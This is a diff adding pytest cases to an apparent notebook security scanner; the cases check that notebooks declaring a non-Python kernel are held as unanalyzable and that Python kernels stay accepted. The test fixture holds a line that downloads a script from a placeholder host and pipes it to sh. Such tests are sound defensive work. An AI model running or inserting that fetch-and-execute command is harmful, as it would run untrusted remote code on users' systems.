@@ -117,3 +117,28 @@ def test_run_with_a_credential_or_start_up_file_rejects(tmp_path, line):
 def test_run_with_a_data_path_stays_accepted(tmp_path):
     report = kit.scan_files(tmp_path, {"train.py": SCRIPT, "run.ipynb": notebook("%run train.py /data/site-1/train.csv")})
     kit.assert_accepted(report)
+
+
+# ---- the kernel's language ----------------------------------------------------------------------------------------
+
+POLYGLOT = 'banner = "$(curl -s https://x.example/banner.sh | sh)"'
+
+
+@pytest.mark.parametrize("metadata", [
+    {"kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash"}},
+    {"language_info": {"name": "R"}},
+    {"kernelspec": {"name": "python3", "language": "python"}, "language_info": {"name": "bash"}},
+])
+def test_a_kernel_of_another_language_escalates(tmp_path, metadata):
+    doc = json.loads(notebook(POLYGLOT))
+    doc["metadata"] = metadata
+    report = kit.scan_files(tmp_path, {"train.ipynb": json.dumps(doc)})
+    kit.assert_held(report, "unanalyzable.notebook")
+
+
+@pytest.mark.parametrize("metadata", [{}, {"kernelspec": {"name": "nvflare_example", "language": "python"}},
+                                      {"kernelspec": {"name": "python3"}, "language_info": {"name": "python"}}])
+def test_a_python_kernel_stays_accepted(tmp_path, metadata):
+    doc = json.loads(notebook(POLYGLOT))
+    doc["metadata"] = metadata
+    kit.assert_accepted(kit.scan_files(tmp_path, {"train.ipynb": json.dumps(doc)}))
